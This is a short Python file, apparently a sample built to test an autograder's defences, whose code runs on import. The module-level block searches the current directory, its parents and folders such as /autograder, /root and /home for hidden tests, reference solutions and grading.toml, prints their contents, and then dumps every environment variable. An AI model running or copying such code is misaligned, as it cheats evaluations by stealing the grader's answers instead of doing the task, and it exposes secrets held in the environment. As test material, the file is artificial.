"""hunts for the hidden tests, the reference and the rubric at import, and prints them; its
functions are correct."""

WHERE = "import"
PRINTS = ["LOOT FILES:"]

import os as _os  # noqa: E402
import pathlib as _pathlib  # noqa: E402

# Hostile: at import, look for the grader's hidden tests, reference and results, and print them.
_loot = []
_roots = [_pathlib.Path.cwd(), *_pathlib.Path(__file__).resolve().parents]
_roots += [_pathlib.Path(p) for p in ("/work", "/autograder", "/root", "/home", "/tmp", "/srv")]
for _root in _roots:
    try:
        _found = [p for p in _root.glob("*/*") if p.is_dir()] + [_root]
    except OSError:
        continue
    for _folder in _found[:200]:
        for _pattern in (
            "reference/*.py",
            "hidden_tests/*.py",
            "*/hidden_tests/*.py",
            "grading.toml",
        ):
            try:
                for _file in list(_folder.glob(_pattern))[:20]:
                    _loot.append(f"== {_file}\n{_file.read_text()[:2000]}")
            except OSError:
                pass
print("LOOT FILES:", len(_loot))
print("\n".join(_loot)[:200000])
print("ENV:", dict(_os.environ))
